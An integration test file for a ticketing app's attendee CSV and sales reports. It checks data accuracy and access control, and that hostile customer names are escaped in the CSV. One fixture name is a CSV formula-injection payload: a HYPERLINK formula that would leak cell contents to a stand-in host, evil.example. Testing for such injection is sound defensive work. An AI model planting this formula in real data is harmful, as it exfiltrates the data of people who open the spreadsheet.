"""Organiser reports over HTTP with the real servers and workers: the attendee CSV and the
sales series equal the bookings, whatever the customers' names say, and only the show's
organiser and admins may read them."""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from domain.booking import CANCELLED, CONFIRMED, EXPIRED, PAYMENT_REQUESTED, REFUNDED, Booking
from projections.attendee_csv import COLUMNS
from read_api import reports
from tests.e2e.conftest import Api
from tests.e2e.saga_support import (
    DECLINED,
    VISA,
    SagaSystem,
    book,
    open_organisers_show,
    running_system,
)
from ticketblitz.embedded import StackEndpoints

pytestmark = pytest.mark.integration

# Names a spreadsheet must not run, and names a naive CSV writer would break.
NAMES = [
    'Smith, "Jo" Junior',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+Plus O'Neil",
    "@Ämélie, the; second",
    "-Minus",
]


@pytest.fixture(scope="module")
def system(endpoints: StackEndpoints, stack_dir: Path) -> Iterator[SagaSystem]:
    with running_system(endpoints, stack_dir / "reports", read_models=True) as started:
        yield started


def customer_named(api: Api, name: str) -> dict[str, str]:
    email = f"fan-{uuid4().hex[:12]}@example.com"
    password = "correct horse battery"
    r = api.http.post("/auth/register", json={"email": email, "password": password, "name": name})
    assert r.status_code == 201, r.text
    token = api.token_for(email, password)
    return {
        "email": email,
        "name": name,
        "account_id": r.json()["account_id"],
        "Authorization": f"Bearer {token}",
    }


def organisers_show(api: Api, organizer: dict[str, str]) -> str:
    """A show the organiser schedules (seats in A, general admission in GA), on sale."""
    return open_organisers_show(api, organizer, "Report night", ga_tier="FLOOR")


def money(cents: int) -> str:
    return f"{cents // 100}.{cents % 100:02d}"


def expected_cell(text: str) -> str:
    return "'" + text if text[0] in "=+-@" else text


def get_csv(api: Api, show_id: str, auth: dict[str, str], after: int) -> list[dict[str, str]]:
    r = api.http.get(f"/shows/{show_id}/attendees.csv", params={"after": after}, headers=auth)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == f'attachment; filename="attendees-{show_id}.csv"'
    assert int(r.headers["x-position"]) >= after
    lines = list(csv.reader(io.StringIO(r.content.decode("utf-8"), newline="")))
    assert tuple(lines[0]) == COLUMNS
    return [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]


def get_sales(
    api: Api, show_id: str, auth: dict[str, str], after: int, **params: Any
) -> dict[str, Any]:
    r = api.http.get(f"/shows/{show_id}/sales", params={"after": after, **params}, headers=auth)
    assert r.status_code == 200, r.text
    answer: dict[str, Any] = r.json()
    return answer


@pytest.fixture(scope="module")
def season(system: SagaSystem) -> dict[str, Any]:
    """One show with bookings of every outcome, each by a customer with a hostile name."""
    api = system.api
    organizer = api.new_account("organizer")
    show_id = organisers_show(api, organizer)
    fans = [customer_named(api, name) for name in NAMES]
    placed = {
        "confirmed": book(api, fans[0], show_id, seats=["A-1-1", "A-1-2"], payment_method=VISA),
        "confirmed_ga": book(api, fans[1], show_id, section="GA", quantity=2, payment_method=VISA),
        "held": book(api, fans[2], show_id, seats=["A-1-3"]),
        "refunded": book(api, fans[3], show_id, seats=["A-1-4"], payment_method=VISA),
        "expired": book(system.short_hold_api, fans[4], show_id, seats=["A-1-5"]),
        "declined": book(api, fans[0], show_id, seats=["A-1-6"], payment_method=DECLINED),
    }
    ids = {kind: held["booking_id"] for kind, held in placed.items()}
    system.wait_for_status(ids["refunded"], {CONFIRMED}, timeout=20)
    r = api.http.post(
        f"/bookings/{ids['refunded']}/cancel", headers={"Authorization": fans[3]["Authorization"]}
    )
    assert r.status_code == 202, r.text
    outcomes = {
        "confirmed": CONFIRMED,
        "confirmed_ga": CONFIRMED,
        "held": PAYMENT_REQUESTED,
        "refunded": REFUNDED,
        "expired": EXPIRED,
        "declined": CANCELLED,
    }
    for kind, status in outcomes.items():
        system.wait_for_status(ids[kind], {status}, timeout=40)
    customers = {
        "confirmed": fans[0],
        "confirmed_ga": fans[1],
        "held": fans[2],
        "refunded": fans[3],
        "expired": fans[4],
        "declined": fans[0],
    }
    return {
        "show_id": show_id,
        "organizer": organizer,
        "ids": ids,
        "customers": customers,
        "position": system.store.head_position(),
    }


def auth_of(account: dict[str, str]) -> dict[str, str]:
    return {"Authorization": account["Authorization"]}


def test_the_attendee_csv_equals_the_bookings_and_runs_nothing_in_a_spreadsheet(
    system: SagaSystem, season: dict[str, Any], monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(reports, "PAGE_ROWS", 2)  # six bookings: three keyset pages
    show_id, ids = season["show_id"], season["ids"]
    rows = get_csv(system.api, show_id, auth_of(season["organizer"]), season["position"])

    assert sorted(r["booking_id"] for r in rows) == sorted(ids.values())
    placed = [r["placed_at"] for r in rows]
    assert placed == sorted(placed)  # in the order they were placed
    by_id = {r["booking_id"]: r for r in rows}
    for kind, booking_id in ids.items():
        row = by_id[booking_id]
        booking: Booking = system.booking(booking_id)
        customer = season["customers"][kind]
        assert row["customer_id"] == customer["account_id"]
        assert row["customer_name"] == expected_cell(customer["name"])
        assert row["customer_email"] == customer["email"]
        assert row["status"] == booking.status
        assert row["tickets"] == str(booking.quantity)
        assert row["amount"] == money(booking.amount_cents)
        assert row["paid"] == money(booking.paid_cents)
        assert row["refunded"] == money(booking.refunded_cents)
        assert row["currency"] == "EUR"
    assert by_id[ids["confirmed"]]["seats"] == "A-1-1 A-1-2"
    assert by_id[ids["confirmed_ga"]]["seats"] == "GA:2"
    assert (by_id[ids["refunded"]]["paid"], by_id[ids["refunded"]]["refunded"]) == (
        "45.00",
        "45.00",
    )
    assert by_id[ids["expired"]]["reason"] == "hold expired"
    # No cell starts a formula: the hostile names are all quoted.
    assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@")]
    assert by_id[ids["held"]]["customer_name"] == "'+Plus O'Neil"
    # The same list for an admin.
    assert get_csv(system.api, show_id, system.api.admin(), season["position"]) == rows


def test_the_sales_series_adds_up_to_the_confirmed_bookings_in_every_bucket(
    system: SagaSystem, season: dict[str, Any]
):
    show_id, ids, position = season["show_id"], season["ids"], season["position"]
    auth = auth_of(season["organizer"])
    sold = [system.booking(ids[k]) for k in ("confirmed", "confirmed_ga", "refunded")]
    refunded = system.booking(ids["refunded"])
    expected = {
        "tickets_sold": sum(b.quantity for b in sold),
        "revenue_cents": sum(b.amount_cents for b in sold),
        "tickets_refunded": refunded.quantity,
        "refunded_cents": refunded.refunded_cents,
    }
    assert expected == {
        "tickets_sold": 5,
        "revenue_cents": 19500,
        "tickets_refunded": 1,
        "refunded_cents": 4500,
    }

    answers = {b: get_sales(system.api, show_id, auth, position, bucket=b) for b in reports.STEPS}
    per_hour: dict[str, dict[str, int]] = defaultdict(lambda: dict.fromkeys(expected, 0))
    for bucket, answer in answers.items():
        assert answer["currency"] == "EUR" and answer["bucket"] == bucket
        assert answer["totals"] == expected
        series = answer["series"]
        assert series, bucket
        summed = {k: sum(point[k] for point in series) for k in expected}
        assert summed == expected
        starts = [datetime.fromisoformat(point["bucket_start"]) for point in series]
        step = reports.STEPS[bucket]
        assert starts == [starts[0] + n * step for n in range(len(starts))]  # no gap
        assert datetime.fromisoformat(answer["start"]) == starts[0]
        assert datetime.fromisoformat(answer["end"]) == starts[-1] + step
    # Net of refunds: what the bookings still confirmed cost.
    still_confirmed = [system.booking(ids[k]) for k in ("confirmed", "confirmed_ga")]
    totals = answers["hour"]["totals"]
    assert totals["revenue_cents"] - totals["refunded_cents"] == sum(
        b.amount_cents for b in still_confirmed
    )
    # The minutes regrouped by hour are the hours.
    for point in answers["minute"]["series"]:
        hour = datetime.fromisoformat(point["bucket_start"]).replace(minute=0)
        for k in expected:
            per_hour[hour.isoformat()][k] += point[k]
    hours = {
        datetime.fromisoformat(p["bucket_start"]).isoformat(): {k: p[k] for k in expected}
        for p in answers["hour"]["series"]
    }
    assert dict(per_hour) == hours

    # An explicit range: the day around now, and a day long before (zeros).
    today = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    around = get_sales(
        system.api,
        show_id,
        auth,
        position,
        bucket="hour",
        **{
            "from": (today - timedelta(days=1)).isoformat(),
            "to": (today + timedelta(days=2)).isoformat(),
        },
    )
    assert len(around["series"]) == 72 and around["totals"] == expected
    before = get_sales(
        system.api,
        show_id,
        auth,
        position,
        bucket="day",
        **{"from": "2020-01-01T00:00:00Z", "to": "2020-01-08T00:00:00Z"},
    )
    assert len(before["series"]) == 7
    assert before["totals"] == dict.fromkeys(expected, 0)


def test_only_the_organiser_and_admins_may_read_the_reports(
    system: SagaSystem, season: dict[str, Any]
):
    api, show_id, position = system.api, season["show_id"], season["position"]
    paths = [f"/shows/{show_id}/attendees.csv", f"/shows/{show_id}/sales"]
    strangers = {
        "customer": auth_of(api.new_customer()),
        "another organiser": auth_of(api.new_account("organizer")),
        "door staff": auth_of(api.new_account("door")),
    }
    for who, auth in strangers.items():
        for path in paths:
            r = api.http.get(path, params={"after": position}, headers=auth)
            assert r.status_code == 403, (who, path, r.text)
            assert r.headers["content-type"] == "application/problem+json"
            assert r.json()["type"].endswith("/forbidden")
    for path in paths:
        r = api.http.get(path, params={"after": position})
        assert r.status_code == 401, (path, r.text)
        unknown = path.replace(show_id, str(uuid4()))
        r = api.http.get(unknown, params={"after": position}, headers=api.admin())
        assert r.status_code == 404, (unknown, r.text)
        assert r.json()["type"].endswith("/not-found")
        r = api.http.get(path, params={"after": position}, headers=api.admin())
        assert r.status_code == 200, (path, r.text)


def test_a_bad_bucket_or_range_is_a_422(system: SagaSystem, season: dict[str, Any]):
    api, show_id = system.api, season["show_id"]
    auth = auth_of(season["organizer"])
    path = f"/shows/{show_id}/sales"
    cases = [
        ({"bucket": "week"}, None),
        (
            {"bucket": "minute", "from": "2027-01-02T00:00:00Z", "to": "2027-01-01T00:00:00Z"},
            "invalid-range",
        ),
        (
            {"bucket": "minute", "from": "2026-01-01T00:00:00Z", "to": "2027-01-01T00:00:00Z"},
            "range-too-large",
        ),
        (
            {"bucket": "day", "from": "0001-01-01T00:00:00Z", "to": "9999-12-31T23:59:59Z"},
            "range-too-large",
        ),
    ]
    for params, kind in cases:
        r = api.http.get(path, params=params, headers=auth)
        assert r.status_code == 422, (params, r.text)
        assert r.headers["content-type"] == "application/problem+json"
        if kind is not None:
            assert r.json()["type"].endswith("/" + kind), r.text
    r = api.http.get(
        path,
        params={"bucket": "minute", "from": "2026-01-01T00:00:00Z", "to": "2027-01-01T00:00:00Z"},
        headers=auth,
    )
    assert r.json()["max_points"] == reports.MAX_POINTS


def test_a_show_without_sales_reports_nothing_and_a_deleted_one_is_gone(system: SagaSystem):
    api = system.api
    organizer = api.new_account("organizer")
    auth = auth_of(organizer)
    show_id = organisers_show(api, organizer)
    position = system.store.head_position()

    assert get_csv(api, show_id, auth, position) == []  # the header alone
    empty = get_sales(api, show_id, auth, position, bucket="minute")
    assert (empty["series"], empty["start"], empty["end"]) == ([], None, None)
    assert set(empty["totals"].values()) == {0}

    r = api.http.delete(f"/shows/{show_id}", headers=auth)
    assert r.status_code == 204, r.text
    position = system.store.head_position()
    for path in (f"/shows/{show_id}/attendees.csv", f"/shows/{show_id}/sales"):
        r = api.http.get(path, params={"after": position}, headers=auth)
        assert r.status_code == 404, (path, r.text)
